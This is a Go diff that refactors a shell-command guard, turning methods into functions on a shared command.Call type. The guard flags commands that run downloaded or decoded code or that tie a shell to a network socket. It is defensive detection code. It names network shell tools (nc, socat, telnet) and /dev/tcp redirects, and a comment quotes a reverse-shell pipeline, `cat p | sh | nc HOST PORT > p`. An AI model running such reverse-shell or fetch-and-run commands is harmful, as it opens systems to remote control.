@@ -5,6 +5,7 @@ import (
 	"strings"
 
 	"cake"
+	"cake/guard/command"
 	"cake/guard/naming"
 	"cake/shell"
 )
@@ -51,23 +52,23 @@ var remoteRules = []Rule{
 }
 
 // executes lists the stretches of commands whose output the call executes.
-func (c *call) executes() [][2]int {
-	if c.wrapper {
+func executes(c *command.Call) [][2]int {
+	if c.Wrapper {
 		return nil
 	}
 	var out [][2]int
-	if s := c.command.Script; s != nil {
+	if s := c.Command.Script; s != nil {
 		out = append(out, [2]int{s.From, s.To})
 		for _, m := range s.Text.Marks {
 			out = append(out, [2]int{m.From, m.To})
 		}
 	}
-	if len(c.argv) > 0 {
-		for _, m := range c.argv[0].Marks {
+	if len(c.Argv) > 0 {
+		for _, m := range c.Argv[0].Marks {
 			out = append(out, [2]int{m.From, m.To})
 		}
 	}
-	if in := c.command.Input; in != nil && c.readsProgram() {
+	if in := c.Command.Input; in != nil && readsProgram(c) {
 		out = append(out, [2]int{in.From, in.To})
 	}
 	return out
@@ -75,12 +76,12 @@ func (c *call) executes() [][2]int {
 
 // readsProgram: an interpreter that takes its program from the standard input
 // although words follow: `php -- --install-dir=bin`, `python3 - x`.
-func (c *call) readsProgram() bool {
-	if len(c.argv) < 2 || shell.Language(c.name) == "" {
+func readsProgram(c *command.Call) bool {
+	if len(c.Argv) < 2 || shell.Language(c.Name) == "" {
 		return false
 	}
-	for i := 1; i < len(c.argv); i++ {
-		switch v := c.argv[i].Value; {
+	for i := 1; i < len(c.Argv); i++ {
+		switch v := c.Argv[i].Value; {
 		case v == "-" || v == "--" || v == "/dev/stdin":
 			return true
 		case !strings.HasPrefix(v, "-") || v == "-c" || v == "-e" || v == "-r" || v == "-m":
@@ -90,15 +91,15 @@ func (c *call) readsProgram() bool {
 	return false
 }
 
-func runsDownload(c *call) (string, bool) {
-	if c.runsAddress() {
+func runsDownload(c *command.Call) (string, bool) {
+	if runsAddress(c) {
 		return "", true
 	}
-	if c.runsFetchedFile() {
+	if runsFetchedFile(c) {
 		return "the file was only just downloaded: read it before it runs", true
 	}
-	for _, stretch := range c.executes() {
-		commands := c.upstream(stretch[0], stretch[1])
+	for _, stretch := range executes(c) {
+		commands := c.Upstream(stretch[0], stretch[1])
 		for i := range commands {
 			if downloads(&commands[i]) {
 				return "", true
@@ -110,16 +111,16 @@ func runsDownload(c *call) (string, bool) {
 
 // runsAddress: a program that runs what an address names, where that is none of
 // the registries that it has by itself.
-func (c *call) runsAddress() bool {
-	if c.wrapper || len(c.argv) < 2 {
+func runsAddress(c *command.Call) bool {
+	if c.Wrapper || len(c.Argv) < 2 {
 		return false
 	}
-	switch c.name {
+	switch c.Name {
 	case "deno", "bun", "node", "tsx", "zx":
-		for i := 1; i < len(c.argv); i++ {
-			v := c.argv[i].Value
-			if host := naming.HostOf(v); (strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "http://")) && !c.argv[i-1].Is("-d") && !naming.LocalHost(host) && !naming.KnownHost(host) {
-				return c.operandAt(0) != "install" && c.operandAt(0) != "eval" && c.operandAt(0) != "info" && c.operandAt(0) != "cache" && c.operandAt(0) != "add"
+		for i := 1; i < len(c.Argv); i++ {
+			v := c.Argv[i].Value
+			if host := naming.HostOf(v); (strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "http://")) && !c.Argv[i-1].Is("-d") && !naming.LocalHost(host) && !naming.KnownHost(host) {
+				return c.OperandAt(0) != "install" && c.OperandAt(0) != "eval" && c.OperandAt(0) != "info" && c.OperandAt(0) != "cache" && c.OperandAt(0) != "add"
 			}
 		}
 	}
@@ -127,30 +128,30 @@ func (c *call) runsAddress() bool {
 }
 
 // runsFetchedFile: the line downloads a file and then executes it.
-func (c *call) runsFetchedFile() bool {
-	if c.wrapper || len(c.argv) == 0 {
+func runsFetchedFile(c *command.Call) bool {
+	if c.Wrapper || len(c.Argv) == 0 {
 		return false
 	}
 	var file shell.Word
-	for i := range c.command.Assigns {
-		if a := &c.command.Assigns[i]; loadsCode(a.Name) {
+	for i := range c.Command.Assigns {
+		if a := &c.Command.Assigns[i]; loadsCode(a.Name) {
 			file = a.Value
 		}
 	}
-	switch s := c.command.Script; {
+	switch s := c.Command.Script; {
 	case file.Value != "":
 	case s != nil && s.Kind == shell.ScriptFile:
 		file = s.Text
-	case s == nil && strings.Contains(c.argv[0].Value, "/"):
-		file = c.argv[0]
+	case s == nil && strings.Contains(c.Argv[0].Value, "/"):
+		file = c.Argv[0]
 	default:
 		return false
 	}
 	if file.Unknown() || file.Value == "" {
 		return false
 	}
-	for _, run := range c.targets(file) {
-		if !run.Unknown && run.Path != "" && slices.ContainsFunc(c.env.fetched, func(file string) bool {
+	for _, run := range c.Targets(file) {
+		if !run.Unknown && run.Path != "" && slices.ContainsFunc(c.Env.Fetched, func(file string) bool {
 			return file == run.Path || strings.HasSuffix(file, "/") && strings.HasPrefix(run.Path, file)
 		}) {
 			return true
@@ -170,22 +171,22 @@ func loadsCode(name string) bool {
 }
 
 // fetched lists the files that a download writes.
-func (c *call) fetched() []string {
-	if c.name == "git" {
-		return c.cloned()
+func fetched(c *command.Call) []string {
+	if c.Name == "git" {
+		return cloned(c)
 	}
 	written := make([]shell.Word, 0, 2)
-	for _, e := range c.effects() {
-		written = append(written, e.word)
+	for _, e := range c.Effects() {
+		written = append(written, e.Word)
 	}
-	for _, a := range c.argv[1:] {
+	for _, a := range c.Argv[1:] {
 		if name := a.Value[strings.LastIndexByte(a.Value, '/')+1:]; strings.Contains(a.Value, "://") && name != "" {
 			written = append(written, shell.Literal(name)) // curl -O, wget
 		}
 	}
 	var out []string
 	for _, word := range written {
-		for _, t := range c.targets(word) {
+		for _, t := range c.Targets(word) {
 			if !t.Unknown && t.Path != "" {
 				out = append(out, t.Path)
 			}
@@ -195,18 +196,17 @@ func (c *call) fetched() []string {
 }
 
 // cloned is the directory that a repository of an unknown host is put into.
-func (c *call) cloned() []string {
-	c.sort()
+func cloned(c *command.Call) []string {
 	var into shell.Word
-	for i := 1; i < len(c.operands); i++ {
-		into = c.operands[i].word
+	for i := 1; i < len(c.Operands()); i++ {
+		into = c.Operands()[i].Word
 	}
 	if strings.Contains(into.Value, "://") || strings.Contains(into.Value, "@") {
 		name := strings.TrimSuffix(into.Value[strings.LastIndexByte(into.Value, '/')+1:], ".git")
 		into = shell.Literal(name)
 	}
 	var out []string
-	for _, t := range c.targets(into) {
+	for _, t := range c.Targets(into) {
 		if !t.Unknown && t.Path != "" {
 			out = append(out, t.Path+"/")
 		}
@@ -242,9 +242,9 @@ func downloads(c *shell.Command) bool {
 	return c.Reached("ssh")
 }
 
-func runsDecoded(c *call) (string, bool) {
-	for _, stretch := range c.executes() {
-		commands := c.upstream(stretch[0], stretch[1])
+func runsDecoded(c *command.Call) (string, bool) {
+	for _, stretch := range executes(c) {
+		commands := c.Upstream(stretch[0], stretch[1])
 		for i := range commands {
 			if decodes(&commands[i]) {
 				return "", true
@@ -283,15 +283,15 @@ func decodes(c *shell.Command) bool {
 	return false
 }
 
-func shellOnSocket(c *call) (string, bool) {
-	if !shell.IsShell(c.name) && c.name != "exec" {
+func shellOnSocket(c *command.Call) (string, bool) {
+	if !shell.IsShell(c.Name) && c.Name != "exec" {
 		return "", false
 	}
-	if c.overPipe() {
+	if overPipe(c) {
 		return "", true
 	}
-	for i := range c.command.Redirs {
-		if word := &c.command.Redirs[i].Word; strings.HasPrefix(word.Value, "/dev/tcp/") || strings.HasPrefix(word.Value, "/dev/udp/") {
+	for i := range c.Command.Redirs {
+		if word := &c.Command.Redirs[i].Word; strings.HasPrefix(word.Value, "/dev/tcp/") || strings.HasPrefix(word.Value, "/dev/udp/") {
 			return "", true
 		}
 	}
@@ -301,20 +301,20 @@ func shellOnSocket(c *call) (string, bool) {
 // overPipe: a shell reads its commands from a file into which a network client
 // after it in the same pipeline writes what it is sent:
 // `cat p | sh | nc HOST PORT > p`.
-func (c *call) overPipe() bool {
-	pipes := c.command.Pipes
-	if c.wrapper || c.line == nil || len(pipes) == 0 {
+func overPipe(c *command.Call) bool {
+	pipes := c.Command.Pipes
+	if c.Wrapper || c.Line == nil || len(pipes) == 0 {
 		return false
 	}
 	mine := pipes[len(pipes)-1]
-	for i := range c.line.Commands {
-		other := &c.line.Commands[i]
+	for i := range c.Line.Commands {
+		other := &c.Line.Commands[i]
 		if len(other.Pipes) != len(pipes) || other.Pipes[len(pipes)-1].ID != mine.ID || other.Pipes[len(pipes)-1].Stage <= mine.Stage {
 			continue
 		}
 		switch other.Name() {
 		case "nc", "ncat", "netcat", "telnet", "socat", "openssl", "nc.traditional", "nc.openbsd":
-			if c.fedFrom(other.Redirs, mine.ID) {
+			if fedFrom(c, other.Redirs, mine.ID) {
 				return true
 			}
 		}
@@ -324,15 +324,15 @@ func (c *call) overPipe() bool {
 
 // fedFrom: a command before this one in the pipeline, or this one itself, reads
 // a file that one of the redirections writes.
-func (c *call) fedFrom(redirs []shell.Redirect, pipe int) bool {
+func fedFrom(c *command.Call, redirs []shell.Redirect, pipe int) bool {
 	for i := range redirs {
 		if writes, _ := redirs[i].Writes(); !writes || redirs[i].Word.Value == "" {
 			continue
 		}
 		file := redirs[i].Word.Value
-		for k := range c.line.Commands {
-			one := &c.line.Commands[k]
-			if n := len(one.Pipes); n == 0 || one.Pipes[n-1].ID != pipe || one.Pipes[n-1].Stage > c.command.Pipes[len(c.command.Pipes)-1].Stage {
+		for k := range c.Line.Commands {
+			one := &c.Line.Commands[k]
+			if n := len(one.Pipes); n == 0 || one.Pipes[n-1].ID != pipe || one.Pipes[n-1].Stage > c.Command.Pipes[len(c.Command.Pipes)-1].Stage {
 				continue
 			}
 			for a := range one.Argv {
